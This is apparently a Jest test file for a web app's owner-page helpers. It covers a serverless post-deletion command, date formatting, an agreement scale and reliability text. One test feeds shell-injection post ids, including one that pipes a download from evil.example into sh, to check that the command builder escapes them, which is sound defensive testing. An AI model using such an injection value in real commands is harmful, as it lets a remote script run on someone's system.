import { expect, it } from '@jest/globals'
import { agreementScale, deletionOf, timeInWords, reliability } from '../../../pages/owner/words'

it('builds a command that deletes the post', () => {
  expect(deletionOf('1')).toBe(`npx sls invoke -f privacy --data '{"delete":{"posts":["1"]}}'`)
})

it.each(["1'; curl evil.example | sh; '", '1’; calc; ‘', '1\u202E\u0007\n2', '1\u{E0001}'])(
  'builds one command for a post with the id %j',
  (post) => {
    const command = deletionOf(post)
    const [, data = ''] = /^npx sls invoke -f privacy --data '([^'‘’\p{C}]*)'$/u.exec(command) ?? []

    expect(JSON.parse(data)).toEqual({ delete: { posts: [post] } })
  },
)

it.each([
  ['2026-11-23T20:12:00Z', '23 November 2026, 20:12 UTC'],
  ['2026-11-22T10:00:00.000', '22 November 2026, 10:00 UTC'],
  ['2026-11-23T00:30:00+02:00', '22 November 2026, 22:30 UTC'],
])('formats %s like the other pages', (iso, words) => {
  expect(timeInWords(iso)).toBe(words)
})

it.each([
  ['from 0 to 1', 0.72, 0.58, 0.84, [0, 1]],
  ['from −1 when its interval begins below 0', 0.1, -0.22, 0.4, [-1, 1]],
  ['from −1 when it is below 0 itself', -0.22, -0.73, 0.3, [-1, 1]],
])('draws agreement on a scale %s, with a distinct position for every bound', (_, value, low, high, [first, last]) => {
  const { width, from, placeOf } = agreementScale(value, low)
  const places = [from, low, value, high, last ?? 1].map(placeOf)

  expect(from).toBe(first)
  expect(places).toEqual([...new Set(places)].sort((a, b) => a - b))
  expect([places.at(0), places.at(-1)]).toEqual([8, width - 8])
})

it("shows a person's reliability with an interval and a number of posts", () => {
  const of = (share: number, low: number, high: number, items: number) =>
    reliability({ reliability: { share, low, high, items } }).replaceAll('\u00a0', ' ')

  expect(of(0.925, 0.828, 0.962, 70)).toBe('93 % (83 to 96 %) of 70 posts')
  expect(of(1, 0.207, 1, 1)).toBe('100 % (21 to 100 %) of 1 post')
  expect(reliability({ reliability: null })).toBe('not known')
})
